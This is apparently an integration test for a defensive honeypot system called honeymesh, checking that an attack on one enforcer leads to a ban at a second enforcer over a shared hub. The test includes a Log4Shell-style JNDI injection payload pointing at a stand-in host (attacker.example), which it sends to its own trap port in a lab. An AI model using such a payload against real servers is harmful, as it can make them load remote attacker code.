/**
 * Two whole enforcers that share no network, each with a kernel of its own, and the deployed hub between them: who attacks one is dropped by the other. Each
 * reaches the broker through a pipe into its namespace, which the test closes to take the hub away.
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetPublicKeyCommand, KMSClient } from '@aws-sdk/client-kms';
import { hexBytes } from '@honeymesh/intel/envelope-bytes';
import { DAY_MS, unixMs } from '@honeymesh/intel/time';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BanRow, StatusReport } from '#enforcer/control/operations.ts';
import { issueNodeCertificate, issueRegistrarCertificate, NODE_LIFE_MS, REGISTRAR_LIFE_MS } from '#enforcer/mesh/signed/certificates.ts';
import { createEd25519, edPublicOf, xPublicOf } from '#enforcer/mesh/signed/keys.ts';
import { createMeshState } from '#enforcer/mesh/state/state.ts';
import { accessTo } from '#test/support/cloud/deployment.ts';
import { brokerOf, type Cloud, cloud } from '#test/support/cloud/provided.ts';
import { createEnforcerHost, type EnforcerHost, eventually, HONEYMESH, type RunningEnforcer } from '#test/support/enforcer.ts';
import { createLab, type Namespace } from '#test/support/namespaces.ts';

const TRAP_PORT = 8080;
const provided = cloud();
const signatures = createEd25519();
const secret = (): Uint8Array => Uint8Array.from(randomBytes(32));

interface Site {
  readonly name: string;
  readonly address: string;
  readonly enforcer: EnforcerHost;
  readonly outside: Namespace;
}

describe.skipIf(provided === null)('two enforcers that share no network', () => {
  const here = (provided ?? {}) as Cloud;
  const lab = createLab();
  const folder = mkdtempSync(join(tmpdir(), 'honeymesh-hub-'));
  const pipe = join(folder, 'broker.sock');
  const open = new Set<Socket>();
  let broker: Server | null = null;
  let signer: string;
  let running: readonly RunningEnforcer[] = [];
  let home: Site;
  let shop: Site;

  function hubComes(): Promise<unknown> {
    broker = createServer(socket => {
      const onward = connect(brokerOf(here).port, '127.0.0.1');
      for (const [one, other] of [
        [socket, onward],
        [onward, socket],
      ] as const) {
        open.add(one);
        one.on('error', () => other.destroy());
        one.on('close', () => {
          open.delete(one);
          other.destroy();
        });
        one.pipe(other);
      }
    });
    broker.listen(pipe);
    return once(broker, 'listening');
  }

  async function hubGoes(): Promise<void> {
    for (const socket of open) socket.destroy();
    await new Promise(resolve => broker?.close(resolve));
  }

  beforeAll(async () => {
    const { PublicKey } = await new KMSClient(accessTo(here.ministack.endpoint)).send(new GetPublicKeyCommand({ KeyId: here.ministack.outputs.SigningKey }));
    signer = Buffer.from(PublicKey ?? []).toString('base64');
    writeFileSync(join(folder, 'ca.pem'), brokerOf(here).ca);
    await hubComes();
    const clusterId = hexBytes(here.cluster);
    const rootSecret = hexBytes(here.rootSecret);
    const registrarSecret = secret();
    const notBefore = unixMs(Date.now() - DAY_MS);
    const request = { clusterId, sites: ['home', 'shop'], edPublic: edPublicOf(registrarSecret), notBefore, notAfter: unixMs(notBefore + REGISTRAR_LIFE_MS) };
    const registrar = issueRegistrarCertificate(request, rootSecret, signatures);

    async function site(name: string, net: number): Promise<Site> {
      const [namespace, outside] = [lab.namespace(`${name}host`), lab.namespace(`${name}out`)];
      const address = `10.81.${net}.1`;
      lab.link({ namespace, device: 'eth0', addresses: [`${address}/24`] }, { namespace: outside, device: 'eth0', addresses: [`10.81.${net}.99/24`] });
      // The same strangers come by at both sites.
      for (let stranger = 1; stranger <= 3; stranger++) lab.ip(['address', 'add', `203.0.113.${stranger}/32`, 'dev', 'lo'], outside);
      lab.ip(['route', 'add', '203.0.113.0/24', 'via', `10.81.${net}.99`], namespace);
      namespace.start([process.execPath, '-e', PIPE, pipe], { stdio: 'ignore' });
      const enforcer = createEnforcerHost(
        namespace,
        `interfaces: [eth0]
log: { level: info }
traps: { ports: [${TRAP_PORT}], patience: listen }
share: { never: [] }
dashboard: { bind: off }
mesh: { bind: "127.0.0.1:7946", signatures: required, key: ${Buffer.from(secret()).toString('base64')} }
`,
      );
      const [edSecret, xSecret] = [secret(), secret()];
      const nodeName = `enforcer-${name}`;
      const dates = { notBefore: unixMs(notBefore + 1), notAfter: unixMs(notBefore + NODE_LIFE_MS) };
      const keys = { edPublic: edPublicOf(edSecret), xPublic: xPublicOf(xSecret) };
      const certificate = issueNodeCertificate(
        { clusterId, nodeName, site: name, ...keys, ...dates },
        { kid: registrar.kid, secret: registrarSecret },
        signatures,
      );
      const state = createMeshState(join(enforcer.paths.state, 'mesh'));
      await state.keepIdentity({ nodeName, edSecret, xSecret });
      await state.keepTrust({
        clusterId,
        rootPublic: edPublicOf(rootSecret),
        certificate: certificate.bytes,
        registrars: [registrar.bytes],
        revocations: [],
        names: [],
      });
      return { name, address, enforcer, outside };
    }
    home = await site('home', 1);
    shop = await site('shop', 2);
  }, 60_000);
  afterAll(async () => {
    await Promise.allSettled([home, shop].map(one => one?.enforcer.remove()));
    lab.remove();
    await hubGoes();
    rmSync(folder, { recursive: true, force: true });
  }, 60_000);

  const status = ({ enforcer }: Site): Promise<StatusReport> => enforcer.json(['status']);
  const banOf = async ({ enforcer }: Site, source: string) => (await enforcer.json<BanRow[]>(['bans', 'list'])).find(({ target }) => target === `${source}/32`);

  /** Visits the trap; `attack` as one who exploits. Whether it answered. */
  async function visit({ outside, address }: Site, source: string, attack: boolean): Promise<boolean> {
    const { stdout } = await outside.run(['python3', '-c', VISIT, source, address, String(TRAP_PORT), attack ? ATTACK : '']);
    return stdout.trim() === 'open';
  }

  /** As an operator does, with credentials; the daemon runs already. */
  async function enrol({ enforcer }: Site): Promise<string> {
    const args = ['hub', 'enrol', '--endpoint', 'localhost:8883', '--signer', signer, '--ca', join(folder, 'ca.pem')];
    const hub = here.ministack.outputs.HostPolicy?.replace(/-host$/, '') ?? '';
    const child = spawn(HONEYMESH, [...args, '--hub', hub, '--instance', enforcer.instance, '--config', enforcer.configPath], {
      env: { ...process.env, AWS_ACCESS_KEY_ID: 'test', AWS_SECRET_ACCESS_KEY: 'test', AWS_REGION: 'us-east-1', AWS_ENDPOINT_URL_IOT: here.ministack.endpoint },
    });
    let said = '';
    for (const stream of [child.stdout, child.stderr]) stream.setEncoding('utf8').on('data', text => (said += text));
    const [code] = await once(child, 'exit');
    if (code !== 0) throw new Error(said);
    return said;
  }

  test('an operator enrols both while they run: no restart, and each is known to the hub', async () => {
    running = [home, shop].map(({ enforcer }) => enforcer.run());
    await Promise.all(running.map(one => one.ready()));
    expect((await status(home)).hub.state).toBe('off');
    for (const one of [home, shop]) expect(await enrol(one)).toContain('uses it from now on');
    for (const one of [home, shop]) await eventually(`${one.name} is introduced`, async () => (await status(one)).hub.state === 'introduced', 30_000);
    expect((await status(home)).degraded.filter(({ part }) => part === 'hub')).toEqual([]);
  });

  test("who attacks one is dropped by the other's kernel", async () => {
    const attacker = '203.0.113.2';
    expect(await visit(home, attacker, true)).toBe(true);
    const startedMs = performance.now();
    await eventually('the shop bans whom the hub told of', async () => (await banOf(shop, attacker))?.enforced === true, 30_000);
    console.log(`cloud: attack at one enforcer to a ban in another one's kernel, over the hub: under ${Math.round(performance.now() - startedMs)} ms`);
    expect(await banOf(shop, attacker)).toMatchObject({ origins: ['hub'], provisional: true, tier: 'E2', advisers: [{ site: 'home', path: 'hub' }] });
    expect(await visit(shop, attacker, false)).toBe(false);
    await eventually('receipts for all', async () => (await status(home)).hub.waiting === 0, 30_000);
  });

  test('what the operator of one lifts is lifted at the other', async () => {
    const attacker = '203.0.113.2';
    await home.enforcer.honeymesh(['bans', 'remove', attacker]);
    await eventually('the shop lifts it', async () => (await banOf(shop, attacker)) === undefined, 30_000);
    expect(await visit(shop, attacker, false)).toBe(true);
  });

  test('while the hub is gone both go on, and nothing is lost, though the process that speaks with it is killed', async () => {
    const attacker = '203.0.113.3';
    await hubGoes();
    expect(await visit(home, attacker, true)).toBe(true);
    await eventually('home bans alone', async () => (await banOf(home, attacker))?.enforced === true);
    await eventually('it waits for the hub', async () => (await status(home)).hub.waiting > 0, 15_000);
    expect(await banOf(shop, attacker)).toBeUndefined();
    const relay = relayOf(running[0]?.daemonPid() ?? 0);
    console.log(`cloud: the relay's process takes ${relay.megabytes} MB`);
    process.kill(relay.pid, 'SIGKILL');
    await eventually('it says so', async () => (await status(home)).degraded.some(({ why }) => why.includes('SIGKILL')));
    await hubComes();
    await eventually('the shop hears of it', async () => (await banOf(shop, attacker))?.enforced === true, 50_000);
    expect(await visit(shop, attacker, false)).toBe(false);
  });
});

// biome-ignore lint/suspicious/noTemplateCurlyInString: the attackers' own notation
const ATTACK = 'GET /?q=${jndi:ldap://attacker.example/a} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n';

/** The one that holds no memory of ours but the outbox. */
function relayOf(daemon: number): { readonly pid: number; readonly megabytes: number } {
  const pids = readFileSync(`/proc/${daemon}/task/${daemon}/children`, 'utf8').trim().split(' ').map(Number);
  const pid = pids.find(one => readFileSync(`/proc/${one}/cmdline`, 'utf8').includes('relay/process/entry'));
  if (pid === undefined) throw new Error('the daemon has no such child');
  return { pid, megabytes: Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1_024) };
}

const VISIT = `
import socket, sys
source, target, port, says = sys.argv[1:]
s = socket.socket(); s.bind((source, 0)); s.settimeout(1.5)
try:
    s.connect((target, int(port)))
    if says: s.sendall(says.encode().decode('unicode_escape').encode()); s.recv(1000)
    print('open')
except OSError as error:
    print('closed')`;

/** The broker as it is seen in a namespace. */
const PIPE = `
const { connect, createServer } = require('node:net');
createServer(socket => {
  const onward = connect(process.argv[1]);
  for (const [one, other] of [[socket, onward], [onward, socket]]) {
    one.on('error', () => other.destroy());
    one.on('close', () => other.destroy());
    one.pipe(other);
  }
}).listen(8883, '127.0.0.1');`;
